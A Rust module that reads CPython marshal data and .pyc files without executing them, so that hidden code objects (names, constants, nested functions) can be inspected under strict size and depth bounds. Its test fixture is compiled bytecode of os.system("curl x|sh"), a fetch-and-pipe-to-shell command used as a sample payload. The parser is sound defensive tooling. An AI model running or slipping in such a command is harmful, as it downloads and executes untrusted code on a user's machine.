//! A bounded reader of CPython's `marshal` format and of `.pyc` files, so that code objects
//! hidden in `marshal.loads(...)` payloads or shipped as bytecode can be inspected: their
//! names, constants and nested functions. Nothing is ever executed; the reader only builds a
//! description of the data, and every count, length and nesting level is bounded.
//!
//! Code objects changed layout across Python versions (2.7; 3.0–3.7 added `kwonlyargcount`;
//! 3.8 `posonlyargcount`; 3.11 replaced the variable tuples with `co_localsplusnames` and added
//! `co_qualname` and `co_exceptiontable`). A `.pyc` names its version in its magic number; a
//! bare marshalled blob does not, so [`read_code`] tries the layouts newest first and keeps the
//! first that reads the whole object consistently.

use std::rc::Rc;

/// Bounds of one read. Hitting any of them makes the read fail with [`MarshalError::Bound`].
#[derive(Clone, Copy, Debug)]
pub struct Limits {
    /// Objects read, references and nested code objects included.
    pub max_objects: usize,
    /// Containers and code objects nested inside each other.
    pub max_depth: u32,
    /// Bytes of strings, bytes and code held in total.
    pub max_string_bytes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_objects: 1 << 20,
            max_depth: 200,
            max_string_bytes: 64 << 20,
        }
    }
}

/// Why a read failed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum MarshalError {
    /// The data ended inside an object.
    Truncated,
    /// A type code no CPython version writes.
    UnknownType(u8),
    /// A value impossible in valid data (negative length, reference out of range, ...).
    Invalid(&'static str),
    /// One of the [`Limits`] was reached.
    Bound(&'static str),
}

impl std::fmt::Display for MarshalError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            MarshalError::Truncated => write!(f, "marshal data is truncated"),
            MarshalError::UnknownType(code) => write!(f, "unknown marshal type code 0x{code:02x}"),
            MarshalError::Invalid(what) => write!(f, "invalid marshal data: {what}"),
            MarshalError::Bound(what) => write!(f, "marshal data exceeds the {what} bound"),
        }
    }
}

/// Which code-object layout the data uses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Layout {
    /// Python 2.x: four counters.
    Py2,
    /// Python 3.0–3.7: `kwonlyargcount` added.
    Py30,
    /// Python 3.8–3.10: `posonlyargcount` added.
    Py38,
    /// Python 3.11 and later: `co_localsplusnames`, `co_qualname`, `co_exceptiontable`.
    Py311,
}

/// A Python version as far as bytecode cares: `(major, minor)`, when known.
pub type Version = (u8, u8);

/// A value read from marshal data.
#[derive(Clone, Debug, PartialEq)]
pub enum Object {
    /// `None`, also the placeholder of a reference read before its object was complete.
    None,
    /// The NULL marker that ends a dict (never a value in valid data).
    Null,
    /// `True` or `False`.
    Bool(bool),
    /// `StopIteration` or `Ellipsis`, kept by name.
    Singleton(&'static str),
    /// An int that fits in 64 bits.
    Int(i64),
    /// A larger int: only its sign and number of 15-bit digits are kept.
    BigInt {
        /// True for negative values.
        negative: bool,
        /// Number of 15-bit digits.
        digits: usize,
    },
    /// A float.
    Float(f64),
    /// A complex number.
    Complex(f64, f64),
    /// A `str` (Python 3) or `unicode` (Python 2).
    Str(Rc<str>),
    /// A `bytes` (Python 3) or `str` (Python 2).
    Bytes(Rc<[u8]>),
    /// A tuple, list, set or frozenset.
    Seq(SeqKind, Rc<[Object]>),
    /// A dict, as its pairs.
    Dict(Rc<[(Object, Object)]>),
    /// A slice (Python 3.14 constants).
    Slice(Rc<[Object; 3]>),
    /// A code object.
    Code(Rc<Code>),
}

/// The container an [`Object::Seq`] was.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SeqKind {
    /// `tuple`
    Tuple,
    /// `list`
    List,
    /// `set`
    Set,
    /// `frozenset`
    FrozenSet,
}

impl Object {
    /// The text of a `str`, or of a Python 2 `str` (bytes) that is valid UTF-8.
    pub fn as_name(&self) -> Option<&str> {
        match self {
            Object::Str(s) => Some(s),
            Object::Bytes(b) => std::str::from_utf8(b).ok(),
            _ => None,
        }
    }
}

/// What a code object holds that matters for analysis.
#[derive(Clone, Debug, PartialEq)]
pub struct Code {
    /// Layout it was read with.
    pub layout: Layout,
    /// `co_argcount`.
    pub argcount: u32,
    /// `co_flags`.
    pub flags: u32,
    /// `co_code`: the bytecode.
    pub bytecode: Rc<[u8]>,
    /// `co_consts`.
    pub consts: Rc<[Object]>,
    /// `co_names`: globals, attributes and imported modules used.
    pub names: Vec<Rc<str>>,
    /// `co_varnames` (before 3.11) or `co_localsplusnames`: locals, then cell and free variables.
    pub varnames: Vec<Rc<str>>,
    /// `co_freevars` and `co_cellvars` (before 3.11; empty after, they are in `varnames`).
    pub closure_names: Vec<Rc<str>>,
    /// `co_filename`.
    pub filename: Rc<str>,
    /// `co_name`.
    pub name: Rc<str>,
    /// `co_qualname` (3.11+), else the name.
    pub qualname: Rc<str>,
    /// `co_firstlineno`.
    pub first_line: u32,
    /// `co_lnotab` / `co_linetable`, raw.
    pub line_table: Rc<[u8]>,
}

impl Code {
    /// This code object and every code object nested in its constants, depth first, at most
    /// `limit` of them.
    pub fn walk(self: &Rc<Self>, limit: usize) -> Vec<Rc<Code>> {
        let mut out = Vec::new();
        let mut stack = vec![self.clone()];
        while let Some(code) = stack.pop() {
            if out.len() >= limit {
                break;
            }
            for constant in code.consts.iter().rev() {
                if let Object::Code(inner) = constant {
                    stack.push(inner.clone());
                }
            }
            out.push(code);
        }
        out
    }

    /// The string constants of this code object (not of nested ones), tuples of strings
    /// (`from m import a, b` keeps its names in one) included.
    pub fn string_constants(&self) -> Vec<&str> {
        let mut out = Vec::new();
        for constant in self.consts.iter() {
            match constant {
                Object::Str(s) => out.push(&**s),
                Object::Seq(_, items) => {
                    out.extend(items.iter().filter_map(|item| match item {
                        Object::Str(s) => Some(&**s),
                        _ => None,
                    }));
                }
                _ => {}
            }
        }
        out
    }
}

/// A `.pyc` file: its header and its module code object.
#[derive(Clone, Debug)]
pub struct Pyc {
    /// The magic number (its first two bytes, little-endian).
    pub magic: u16,
    /// The Python version the magic number belongs to, when known.
    pub version: Option<Version>,
    /// The module's code object.
    pub code: Rc<Code>,
}

/// Which Python version wrote a `.pyc` with this magic number, by CPython's published ranges.
pub fn version_of_magic(magic: u16) -> Option<Version> {
    Some(match magic {
        20121 => (1, 5),
        50428 => (1, 6),
        50823 => (2, 0),
        60202 => (2, 1),
        60717 => (2, 2),
        62011..=62021 => (2, 3),
        62041..=62061 => (2, 4),
        62071..=62131 => (2, 5),
        62151..=62161 => (2, 6),
        62171..=62211 => (2, 7),
        3000..=3131 => (3, 0),
        3141..=3151 => (3, 1),
        3160..=3180 => (3, 2),
        3190..=3230 => (3, 3),
        3250..=3310 => (3, 4),
        3320..=3351 => (3, 5),
        3360..=3379 => (3, 6),
        3390..=3399 => (3, 7),
        3400..=3419 => (3, 8),
        3420..=3429 => (3, 9),
        3430..=3449 => (3, 10),
        3450..=3499 => (3, 11),
        3500..=3549 => (3, 12),
        3550..=3599 => (3, 13),
        3600..=3649 => (3, 14),
        3650..=3699 => (3, 15),
        _ => return None,
    })
}

/// The code-object layout of a Python version.
pub fn layout_of(version: Version) -> Layout {
    match version {
        (major, _) if major < 3 => Layout::Py2,
        (3, minor) if minor < 8 => Layout::Py30,
        (3, minor) if minor < 11 => Layout::Py38,
        _ => Layout::Py311,
    }
}

/// True when `data` starts like a `.pyc`: a known magic number followed by `\r\n`.
pub fn is_pyc(data: &[u8]) -> bool {
    matches!(data, [lo, hi, b'\r', b'\n', ..] if version_of_magic(u16::from_le_bytes([*lo, *hi])).is_some())
}

/// Reads a `.pyc` file: its header (8 bytes before 3.3, 12 before 3.7, 16 since) and the
/// module code object after it.
pub fn read_pyc(data: &[u8], limits: Limits) -> Result<Pyc, MarshalError> {
    let [lo, hi, b'\r', b'\n', ..] = data else {
        return Err(MarshalError::Invalid("not a .pyc header"));
    };
    let magic = u16::from_le_bytes([*lo, *hi]);
    let version = version_of_magic(magic);
    let header = match version {
        Some((3, minor)) if minor >= 7 => 16,
        Some((3, minor)) if minor >= 3 => 12,
        Some(_) => 8,
        None => 16,
    };
    // Other tools write other headers (pytest's rewritten Python 2 files carry 12 bytes), and
    // pre-releases other layouts (3.8 alphas before 3400+10 lack posonlyargcount): the expected
    // shape first, then the others.
    let mut last = MarshalError::Truncated;
    for header in [header, 16, 12, 8] {
        let Some(body) = data.get(header..) else {
            continue;
        };
        let expected = match version {
            Some((3, 8)) if magic < 3410 => Some(Layout::Py30),
            Some(version) => Some(layout_of(version)),
            None => None,
        };
        let result = match expected.map(|layout| read_code_with(body, layout, limits)) {
            Some(Ok(code)) => Ok(code),
            Some(Err(MarshalError::Bound(what))) => Err(MarshalError::Bound(what)),
            _ => read_code(body, limits).map(|(code, _)| code),
        };
        match result {
            Ok(code) => {
                return Ok(Pyc {
                    magic,
                    version,
                    code,
                });
            }
            Err(error @ MarshalError::Bound(_)) => return Err(error),
            Err(error) => last = error,
        }
    }
    Err(last)
}

/// Reads a marshalled code object whose Python version is unknown, trying each layout, newest
/// first. Returns the code object and the layout that read it.
pub fn read_code(data: &[u8], limits: Limits) -> Result<(Rc<Code>, Layout), MarshalError> {
    let mut first_error = None;
    for layout in [Layout::Py311, Layout::Py38, Layout::Py30, Layout::Py2] {
        match read_code_with(data, layout, limits) {
            Ok(code) => return Ok((code, layout)),
            Err(error) => {
                // A bound is a property of the data, not of the layout: trying others would
                // only repeat the work.
                if matches!(error, MarshalError::Bound(_)) {
                    return Err(error);
                }
                first_error.get_or_insert(error);
            }
        }
    }
    Err(first_error.unwrap_or(MarshalError::Truncated))
}

/// Reads a marshalled code object with a known layout.
pub fn read_code_with(
    data: &[u8],
    layout: Layout,
    limits: Limits,
) -> Result<Rc<Code>, MarshalError> {
    match read_object(data, layout, limits)? {
        Object::Code(code) => Ok(code),
        _ => Err(MarshalError::Invalid("not a code object")),
    }
}

/// Reads any marshalled object with code objects in `layout`.
pub fn read_object(data: &[u8], layout: Layout, limits: Limits) -> Result<Object, MarshalError> {
    let mut reader = Reader {
        data,
        at: 0,
        layout,
        limits,
        refs: Vec::new(),
        interned: Vec::new(),
        objects: 0,
        string_bytes: 0,
    };
    reader.object(0)
}

struct Reader<'a> {
    data: &'a [u8],
    at: usize,
    layout: Layout,
    limits: Limits,
    /// Objects flagged with `FLAG_REF`, for `r` references (Python 3.4+ marshal version 3).
    refs: Vec<Object>,
    /// Interned strings, for `R` references (Python 2).
    interned: Vec<Object>,
    objects: usize,
    string_bytes: usize,
}

const FLAG_REF: u8 = 0x80;

impl Reader<'_> {
    fn take(&mut self, n: usize) -> Result<&[u8], MarshalError> {
        let end = self.at.checked_add(n).ok_or(MarshalError::Truncated)?;
        let bytes = self.data.get(self.at..end).ok_or(MarshalError::Truncated)?;
        self.at = end;
        Ok(bytes)
    }

    fn byte(&mut self) -> Result<u8, MarshalError> {
        let &[b] = self.take(1)? else {
            return Err(MarshalError::Truncated);
        };
        Ok(b)
    }

    fn i32(&mut self) -> Result<i32, MarshalError> {
        let &[a, b, c, d] = self.take(4)? else {
            return Err(MarshalError::Truncated);
        };
        Ok(i32::from_le_bytes([a, b, c, d]))
    }

    fn u32(&mut self) -> Result<u32, MarshalError> {
        Ok(self.i32()?.cast_unsigned())
    }

    fn f64(&mut self) -> Result<f64, MarshalError> {
        let bytes: [u8; 8] = self
            .take(8)?
            .try_into()
            .map_err(|_| MarshalError::Truncated)?;
        Ok(f64::from_le_bytes(bytes))
    }

    /// A length or count, checked against what is left so that a lying length cannot make the
    /// reader allocate: every element takes at least `unit` bytes.
    fn length(&mut self, unit: usize) -> Result<usize, MarshalError> {
        let n = usize::try_from(self.i32()?).map_err(|_| MarshalError::Invalid("negative size"))?;
        let left = self.data.len().saturating_sub(self.at);
        if n.saturating_mul(unit) > left {
            return Err(MarshalError::Truncated);
        }
        Ok(n)
    }

    fn bytes_of(&mut self, n: usize) -> Result<Rc<[u8]>, MarshalError> {
        self.string_bytes = self.string_bytes.saturating_add(n);
        if self.string_bytes > self.limits.max_string_bytes {
            return Err(MarshalError::Bound("string bytes"));
        }
        Ok(Rc::from(self.take(n)?))
    }

    fn text_of(&mut self, n: usize) -> Result<Rc<str>, MarshalError> {
        let bytes = self.bytes_of(n)?;
        // CPython writes surrogates with `surrogatepass`; replacing them keeps the rest readable.
        Ok(Rc::from(String::from_utf8_lossy(&bytes).as_ref()))
    }

    fn float_text(&mut self) -> Result<f64, MarshalError> {
        let n = usize::from(self.byte()?);
        let text = self.take(n)?;
        Ok(std::str::from_utf8(text)
            .ok()
            .and_then(|t| t.trim().parse().ok())
            .unwrap_or(f64::NAN))
    }

    fn object(&mut self, depth: u32) -> Result<Object, MarshalError> {
        if depth > self.limits.max_depth {
            return Err(MarshalError::Bound("nesting depth"));
        }
        self.objects += 1;
        if self.objects > self.limits.max_objects {
            return Err(MarshalError::Bound("object count"));
        }
        let code = self.byte()?;
        let flagged = code & FLAG_REF != 0 && self.layout != Layout::Py2;
        let kind = if self.layout == Layout::Py2 {
            code
        } else {
            code & !FLAG_REF
        };
        // Containers and code objects take their reference slot before their contents, as
        // CPython does; a reference to a slot still being filled reads as None, so the data
        // can never describe a cycle.
        let slot = if flagged && matches!(kind, b'(' | b')' | b'[' | b'{' | b'<' | b'>' | b'c') {
            self.refs.push(Object::None);
            Some(self.refs.len() - 1)
        } else {
            None
        };
        let value = match kind {
            b'0' => Object::Null,
            b'N' => Object::None,
            b'F' => Object::Bool(false),
            b'T' => Object::Bool(true),
            b'S' => Object::Singleton("StopIteration"),
            b'.' => Object::Singleton("Ellipsis"),
            b'i' => Object::Int(i64::from(self.i32()?)),
            b'I' => {
                let low = i64::from(self.u32()?);
                let high = i64::from(self.i32()?);
                Object::Int((high << 32) | low)
            }
            b'l' => self.long()?,
            b'f' => Object::Float(self.float_text()?),
            b'g' => Object::Float(self.f64()?),
            b'x' => {
                let real = self.float_text()?;
                Object::Complex(real, self.float_text()?)
            }
            b'y' => {
                let real = self.f64()?;
                Object::Complex(real, self.f64()?)
            }
            b's' => {
                let n = self.length(1)?;
                Object::Bytes(self.bytes_of(n)?)
            }
            b't' if self.layout == Layout::Py2 => {
                // Python 2 interned `str`: bytes, remembered for `R` references.
                let n = self.length(1)?;
                let value = Object::Bytes(self.bytes_of(n)?);
                self.interned.push(value.clone());
                value
            }
            b'R' if self.layout == Layout::Py2 => {
                let index = usize::try_from(self.i32()?)
                    .map_err(|_| MarshalError::Invalid("negative reference"))?;
                self.interned
                    .get(index)
                    .cloned()
                    .ok_or(MarshalError::Invalid("string reference out of range"))?
            }
            b'u' | b't' | b'a' | b'A' => {
                let n = self.length(1)?;
                Object::Str(self.text_of(n)?)
            }
            b'z' | b'Z' => {
                let n = usize::from(self.byte()?);
                Object::Str(self.text_of(n)?)
            }
            b'(' | b'[' | b'<' | b'>' => {
                let n = self.length(1)?;
                let seq = match kind {
                    b'(' => SeqKind::Tuple,
                    b'[' => SeqKind::List,
                    b'<' => SeqKind::Set,
                    _ => SeqKind::FrozenSet,
                };
                self.sequence(seq, n, depth)?
            }
            b')' => {
                let n = usize::from(self.byte()?);
                self.sequence(SeqKind::Tuple, n, depth)?
            }
            b'{' => {
                let mut pairs = Vec::new();
                loop {
                    let key = self.object(depth + 1)?;
                    if key == Object::Null {
                        break;
                    }
                    let value = self.object(depth + 1)?;
                    pairs.push((key, value));
                }
                Object::Dict(Rc::from(pairs))
            }
            b':' => {
                let start = self.object(depth + 1)?;
                let stop = self.object(depth + 1)?;
                let step = self.object(depth + 1)?;
                Object::Slice(Rc::new([start, stop, step]))
            }
            b'r' if self.layout != Layout::Py2 => {
                let index = usize::try_from(self.i32()?)
                    .map_err(|_| MarshalError::Invalid("negative reference"))?;
                self.refs
                    .get(index)
                    .cloned()
                    .ok_or(MarshalError::Invalid("reference out of range"))?
            }
            b'c' => Object::Code(Rc::new(self.code(depth)?)),
            other => return Err(MarshalError::UnknownType(other)),
        };
        match slot {
            Some(slot) => {
                if let Some(entry) = self.refs.get_mut(slot) {
                    *entry = value.clone();
                }
            }
            None if flagged => self.refs.push(value.clone()),
            None => {}
        }
        Ok(value)
    }

    fn long(&mut self) -> Result<Object, MarshalError> {
        let n = self.i32()?;
        let negative = n < 0;
        let digits = usize::try_from(n.unsigned_abs()).unwrap_or(usize::MAX);
        if digits.saturating_mul(2) > self.data.len().saturating_sub(self.at) {
            return Err(MarshalError::Truncated);
        }
        let raw = self.take(digits * 2)?;
        let mut value: i64 = 0;
        let mut fits = true;
        for pair in raw.chunks_exact(2).rev() {
            let &[lo, hi] = pair else { continue };
            let digit = i64::from(u16::from_le_bytes([lo, hi]) & 0x7fff);
            match value
                .checked_mul(1 << 15)
                .and_then(|v| v.checked_add(digit))
            {
                Some(next) => value = next,
                None => {
                    fits = false;
                    break;
                }
            }
        }
        Ok(if fits {
            Object::Int(if negative { -value } else { value })
        } else {
            Object::BigInt { negative, digits }
        })
    }

    fn sequence(&mut self, kind: SeqKind, n: usize, depth: u32) -> Result<Object, MarshalError> {
        let mut items = Vec::with_capacity(n.min(4096));
        for _ in 0..n {
            items.push(self.object(depth + 1)?);
        }
        Ok(Object::Seq(kind, Rc::from(items)))
    }

    fn names(&mut self, depth: u32) -> Result<Vec<Rc<str>>, MarshalError> {
        match self.object(depth + 1)? {
            Object::Seq(SeqKind::Tuple, items) => items
                .iter()
                .map(|item| match item {
                    Object::Str(s) => Ok(s.clone()),
                    Object::Bytes(b) => Ok(Rc::from(String::from_utf8_lossy(b).as_ref())),
                    _ => Err(MarshalError::Invalid("a name that is not a string")),
                })
                .collect(),
            _ => Err(MarshalError::Invalid("names that are not a tuple")),
        }
    }

    fn string(&mut self, depth: u32) -> Result<Rc<str>, MarshalError> {
        match self.object(depth + 1)? {
            Object::Str(s) => Ok(s),
            Object::Bytes(b) => Ok(Rc::from(String::from_utf8_lossy(&b).as_ref())),
            _ => Err(MarshalError::Invalid(
                "a code string field that is not a string",
            )),
        }
    }

    fn raw_bytes(&mut self, depth: u32) -> Result<Rc<[u8]>, MarshalError> {
        match self.object(depth + 1)? {
            Object::Bytes(b) => Ok(b),
            Object::Str(s) if self.layout == Layout::Py2 => Ok(Rc::from(s.as_bytes())),
            _ => Err(MarshalError::Invalid(
                "a code bytes field that is not bytes",
            )),
        }
    }

    fn code(&mut self, depth: u32) -> Result<Code, MarshalError> {
        let counters = match self.layout {
            Layout::Py2 => 4,
            Layout::Py30 | Layout::Py311 => 5,
            Layout::Py38 => 6,
        };
        let mut values = [0u32; 6];
        for value in values.iter_mut().take(counters) {
            *value = self.u32()?;
        }
        let argcount = values[0];
        let flags = values.get(counters - 1).copied().unwrap_or(0);
        let bytecode = self.raw_bytes(depth)?;
        let consts = match self.object(depth + 1)? {
            Object::Seq(SeqKind::Tuple, items) => items,
            _ => return Err(MarshalError::Invalid("constants that are not a tuple")),
        };
        let names = self.names(depth)?;
        let (varnames, closure_names) = if self.layout == Layout::Py311 {
            let locals = self.names(depth)?;
            // co_localspluskinds: one byte per local.
            let kinds = self.raw_bytes(depth)?;
            if kinds.len() != locals.len() {
                return Err(MarshalError::Invalid(
                    "local kinds do not match local names",
                ));
            }
            (locals, Vec::new())
        } else {
            let varnames = self.names(depth)?;
            let mut closure = self.names(depth)?;
            closure.extend(self.names(depth)?);
            (varnames, closure)
        };
        let filename = self.string(depth)?;
        let name = self.string(depth)?;
        let qualname = if self.layout == Layout::Py311 {
            self.string(depth)?
        } else {
            name.clone()
        };
        let first_line = self.u32()?;
        let line_table = self.raw_bytes(depth)?;
        if self.layout == Layout::Py311 {
            self.raw_bytes(depth)?;
        }
        Ok(Code {
            layout: self.layout,
            argcount,
            flags,
            bytecode,
            consts,
            names,
            varnames,
            closure_names,
            filename,
            name,
            qualname,
            first_line,
            line_table,
        })
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;

    fn unhex(s: &str) -> Vec<u8> {
        crate::decode::decode(crate::decode::Codec::Hex, s.as_bytes()).unwrap()
    }

    /// `marshal.dumps(compile('import os\nos.system("curl x|sh")', 'f', 'exec'))` on CPython 3.11.
    pub(crate) const PY311_SYSTEM: &str = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";

    #[test]
    fn reads_a_311_module() {
        let data = unhex(PY311_SYSTEM);
        let (code, layout) = read_code(&data, Limits::default()).unwrap();
        assert_eq!(layout, Layout::Py311);
        assert_eq!(&*code.name, "<module>");
        assert_eq!(&*code.filename, "f");
        assert_eq!(code.first_line, 1);
        let names: Vec<&str> = code.names.iter().map(|n| &**n).collect();
        assert_eq!(names, ["os", "system"]);
        assert!(code.string_constants().contains(&"curl x|sh"));
    }

    #[test]
    fn hand_built_objects_and_refs() {
        // A tuple flagged as a reference, then a reference to it and to its string.
        let mut data = vec![b'(' | FLAG_REF, 3, 0, 0, 0];
        data.extend([b'z' | FLAG_REF, 2, b'o', b's']);
        data.extend([b'r', 1, 0, 0, 0]);
        data.extend([b'i', 0xff, 0xff, 0xff, 0xff]);
        let Object::Seq(SeqKind::Tuple, items) =
            read_object(&data, Layout::Py311, Limits::default()).unwrap()
        else {
            panic!()
        };
        assert_eq!(items[0], Object::Str(Rc::from("os")));
        assert_eq!(items[1], items[0]);
        assert_eq!(items[2], Object::Int(-1));
        // A reference to the tuple still being read is None, not a cycle.
        let data = [b'(' | FLAG_REF, 1, 0, 0, 0, b'r', 0, 0, 0, 0];
        let Object::Seq(_, items) = read_object(&data, Layout::Py311, Limits::default()).unwrap()
        else {
            panic!()
        };
        assert_eq!(items[0], Object::None);
        // Longs, both small and large.
        let data = [b'l', 2, 0, 0, 0, 1, 0, 1, 0];
        assert_eq!(
            read_object(&data, Layout::Py311, Limits::default()).unwrap(),
            Object::Int(1 + (1 << 15))
        );
        let mut data = vec![b'l', 0xf6, 0xff, 0xff, 0xff];
        data.extend([0xff, 0x7f].repeat(10));
        assert_eq!(
            read_object(&data, Layout::Py311, Limits::default()).unwrap(),
            Object::BigInt {
                negative: true,
                digits: 10
            }
        );
    }

    #[test]
    fn hostile_data_fails_as_values() {
        let limits = Limits::default();
        // A length far beyond the data.
        assert_eq!(
            read_object(&[b's', 0xff, 0xff, 0xff, 0x7f], Layout::Py311, limits),
            Err(MarshalError::Truncated)
        );
        assert!(read_object(&[b's', 0xff, 0xff, 0xff, 0xff], Layout::Py311, limits).is_err());
        assert_eq!(
            read_object(&[b'r', 5, 0, 0, 0], Layout::Py311, limits),
            Err(MarshalError::Invalid("reference out of range"))
        );
        assert_eq!(
            read_object(b"?", Layout::Py311, limits),
            Err(MarshalError::UnknownType(b'?'))
        );
        // Deep nesting hits the depth bound, not the stack.
        let deep: Vec<u8> = [b')', 1].repeat(100_000);
        assert_eq!(
            read_object(&deep, Layout::Py311, limits),
            Err(MarshalError::Bound("nesting depth"))
        );
        // An endless dict hits the object bound.
        let mut dict = vec![b'{'];
        dict.extend([b'N'].repeat(2_000_000));
        assert!(matches!(
            read_object(&dict, Layout::Py311, limits),
            Err(MarshalError::Bound(_) | MarshalError::Truncated)
        ));
        assert!(read_code(&[], limits).is_err());
        assert!(read_pyc(b"\x00\x00\r\n", limits).is_err());
    }

    #[test]
    fn every_prefix_and_mutation_is_safe() {
        let data = unhex(PY311_SYSTEM);
        for end in 0..data.len() {
            let _ = read_code(&data[..end], Limits::default());
        }
        let mut state = 0x2545_f491_u32;
        for _ in 0..3000 {
            let mut mutated = data.clone();
            for _ in 0..3 {
                state ^= state << 13;
                state ^= state >> 17;
                state ^= state << 5;
                let at = state as usize % mutated.len();
                mutated[at] = (state >> 8) as u8;
            }
            let _ = read_code(&mutated, Limits::default());
        }
    }

    #[test]
    fn magic_numbers() {
        assert_eq!(version_of_magic(3495), Some((3, 11)));
        assert_eq!(version_of_magic(3394), Some((3, 7)));
        assert_eq!(version_of_magic(62211), Some((2, 7)));
        assert_eq!(version_of_magic(1), None);
        assert!(is_pyc(b"\xa7\x0d\x0d\x0a\0\0\0\0"));
        assert!(!is_pyc(b"import os\n"));
        let mut pyc = b"\xa7\x0d\x0d\x0a".to_vec();
        pyc.extend([0u8; 12]);
        pyc.extend(unhex(PY311_SYSTEM));
        let pyc = read_pyc(&pyc, Limits::default()).unwrap();
        assert_eq!(pyc.version, Some((3, 11)));
        assert_eq!(&*pyc.code.names[1], "system");
        // A header of another size than the version's (as pytest writes them) is found too.
        let mut short = b"\xa7\x0d\x0d\x0a".to_vec();
        short.extend([0u8; 8]);
        short.extend(unhex(PY311_SYSTEM));
        assert_eq!(
            &*read_pyc(&short, Limits::default()).unwrap().code.name,
            "<module>"
        );
    }
}
